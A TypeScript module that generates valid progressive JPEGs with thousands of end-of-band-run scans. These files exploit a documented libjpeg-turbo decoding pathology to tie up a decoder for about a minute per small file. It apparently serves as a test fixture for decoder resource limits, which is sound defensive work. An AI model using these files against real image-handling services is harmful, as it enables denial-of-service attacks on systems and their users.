/**
 * Writes valid progressive JPEGs with as many scans as asked for, byte by
 * byte (no encoder, no Debian package): the "EOB run" pathology libjpeg-turbo
 * documents as LJT-01-003. Every AC scan codes a whole component's blocks as a
 * handful of end-of-band runs (at most 32767 blocks each), so a scan costs a
 * few bytes in the file but one pass over every block of the image in the
 * decoder: a file under a megabyte can keep libjpeg busy for a minute.
 *
 * The picture itself is flat grey: one interleaved DC scan with every
 * difference zero, then for each component, each AC coefficient `1..coefficients`
 * one first scan at successive approximation `approximation` and one refinement
 * scan per lower bit (what `jpegtran -scans` does with a script that splits
 * spectral selection per coefficient and successive approximation 13..0).
 * Scans: 1 + components × coefficients × (approximation + 1).
 */
import { Buffer } from 'node:buffer';

export interface HostileJpegOptions {
  readonly width: number;
  readonly height: number;
  /** 1 (grey), 3 (YCbCr) or 4 (CMYK, Adobe APP14 marker written). @default 3 */
  readonly components?: 1 | 3 | 4;
  /** AC coefficients 1..n get their own scans (1..63). @default 63 */
  readonly coefficients?: number;
  /** Point transform of each coefficient's first scan (0..13); each lower bit gets a refinement scan. @default 13 */
  readonly approximation?: number;
  /** MCUs between restart markers (a DRI segment, and RST0..7 inside every scan's data). @default none */
  readonly restartInterval?: number;
}

/** The number of scans hostileProgressiveJpeg writes for these options. */
export const hostileScanCount = (options: HostileJpegOptions): number =>
  1 + (options.components ?? 3) * (options.coefficients ?? 63) * ((options.approximation ?? 13) + 1);

const segment = (marker: number, body: Buffer): Buffer => {
  const head = Buffer.alloc(4);
  head[0] = 0xff;
  head[1] = marker;
  head.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([head, body]);
};

/** MSB-first bit writer with JPEG byte stuffing (0xFF is followed by 0x00); pads the last byte with ones. */
class BitWriter {
  private readonly bytes: number[] = [];
  private current = 0;
  private filled = 0;

  write(value: number, length: number): void {
    for (let bit = length - 1; bit >= 0; bit--) {
      this.current = (this.current << 1) | ((value >> bit) & 1);
      if (++this.filled === 8) this.flushByte();
    }
  }

  /** `count` zero bits, fast: the DC scan writes one per block. */
  zeros(count: number): void {
    let left = count;
    while (left > 0 && this.filled !== 0) {
      this.write(0, 1);
      left--;
    }
    const whole = Math.floor(left / 8);
    for (let i = 0; i < whole; i++) this.bytes.push(0);
    this.write(0, left - whole * 8);
  }

  finish(): Buffer {
    if (this.filled > 0) this.write((1 << (8 - this.filled)) - 1, 8 - this.filled);
    return Buffer.from(this.bytes);
  }

  private flushByte(): void {
    this.bytes.push(this.current);
    if (this.current === 0xff) this.bytes.push(0x00);
    this.current = 0;
    this.filled = 0;
  }
}

// DC table: one symbol, category 0 (difference 0), code "0".
const DC_TABLE = Buffer.from([0x00, 1, ...new Array<number>(15).fill(0), 0x00]);
// AC table: the 15 end-of-band-run symbols EOB0..EOB14 (0x00, 0x10, …, 0xE0), all 4-bit codes 0..14.
const EOB_SYMBOLS = Array.from({ length: 15 }, (_, r) => r << 4);
const AC_TABLE = Buffer.from([0x10, 0, 0, 0, 15, ...new Array<number>(12).fill(0), ...EOB_SYMBOLS]);
const MAX_EOB_RUN = 32767;

/**
 * A scan's entropy data for `units` MCUs: each restart interval coded on its own
 * (padded to a byte) and followed by RST0..7 in turn, except the last.
 */
const withRestarts = (units: number, interval: number | undefined, code: (count: number) => Buffer): Buffer => {
  if (!interval) return code(units);
  const parts: Buffer[] = [];
  for (let done = 0, n = 0; done < units; done += interval, n++) {
    if (done > 0) parts.push(Buffer.from([0xff, 0xd0 + ((n - 1) % 8)]));
    parts.push(code(Math.min(interval, units - done)));
  }
  return Buffer.concat(parts);
};

/** `bits` zero bits, padded: the DC scan's "difference 0" codes. */
const zeroBits = (bits: number): Buffer => {
  const writer = new BitWriter();
  writer.zeros(bits);
  return writer.finish();
};

/** Entropy data coding `blocks` all-zero blocks as end-of-band runs. */
const eobRuns = (blocks: number): Buffer => {
  const bits = new BitWriter();
  let left = blocks;
  while (left > 0) {
    const run = Math.min(left, MAX_EOB_RUN);
    const r = Math.floor(Math.log2(run));
    bits.write(r, 4); // the symbol EOBr has code r in AC_TABLE
    if (r > 0) bits.write(run - (1 << r), r);
    left -= run;
  }
  return bits.finish();
};

const sos = (componentIds: readonly number[], ss: number, se: number, ah: number, al: number): Buffer =>
  segment(0xda, Buffer.from([componentIds.length, ...componentIds.flatMap((id) => [id, 0x00]), ss, se, (ah << 4) | al]));

/** A valid progressive (SOF2) baseline-Huffman JPEG of width×height flat grey with hostileScanCount(options) scans. */
export const hostileProgressiveJpeg = (options: HostileJpegOptions): Buffer => {
  const { width, height } = options;
  const components = options.components ?? 3;
  const restartInterval = options.restartInterval;
  const coefficients = options.coefficients ?? 63;
  const approximation = options.approximation ?? 13;
  if (!(width >= 1 && width <= 65535 && height >= 1 && height <= 65535)) throw new RangeError('width and height must be 1..65535');
  if (!(coefficients >= 1 && coefficients <= 63)) throw new RangeError('coefficients must be 1..63');
  if (!(approximation >= 0 && approximation <= 13)) throw new RangeError('approximation must be 0..13');
  if (restartInterval !== undefined && !(restartInterval >= 1 && restartInterval <= 65535)) throw new RangeError('restartInterval must be 1..65535');
  const ids = Array.from({ length: components }, (_, i) => i + 1);
  // Every component sampled 1×1: a component has as many blocks as the picture has 8×8 cells.
  const blocks = Math.ceil(width / 8) * Math.ceil(height / 8);

  const sof = Buffer.alloc(6 + 3 * components);
  sof[0] = 8;
  sof.writeUInt16BE(height, 1);
  sof.writeUInt16BE(width, 3);
  sof[5] = components;
  ids.forEach((id, i) => sof.set([id, 0x11, 0], 6 + 3 * i));

  const parts: Buffer[] = [Buffer.from([0xff, 0xd8])];
  // Adobe APP14, transform 0: four components are CMYK, not YCCK.
  if (components === 4) parts.push(segment(0xee, Buffer.from([...Buffer.from('Adobe', 'latin1'), 0, 100, 0, 0, 0, 0, 0])));
  parts.push(
    segment(0xdb, Buffer.from([0x00, ...new Array<number>(64).fill(1)])),
    segment(0xc2, sof),
    segment(0xc4, Buffer.concat([DC_TABLE, AC_TABLE])),
  );
  if (restartInterval) parts.push(segment(0xdd, Buffer.from([restartInterval >> 8, restartInterval & 0xff])));

  // DC first scan, all components interleaved: one "0" code (difference 0) per block per component.
  parts.push(sos(ids, 0, 0, 0, 0), withRestarts(blocks, restartInterval, (mcus) => zeroBits(mcus * components)));

  // Non-interleaved scans: an MCU is one block.
  const runs = withRestarts(blocks, restartInterval, eobRuns);
  for (const id of ids) {
    for (let k = 1; k <= coefficients; k++) {
      parts.push(sos([id], k, k, 0, approximation), runs);
      for (let al = approximation - 1; al >= 0; al--) parts.push(sos([id], k, k, al + 1, al), runs);
    }
  }
  parts.push(Buffer.from([0xff, 0xd9]));
  return Buffer.concat(parts);
};
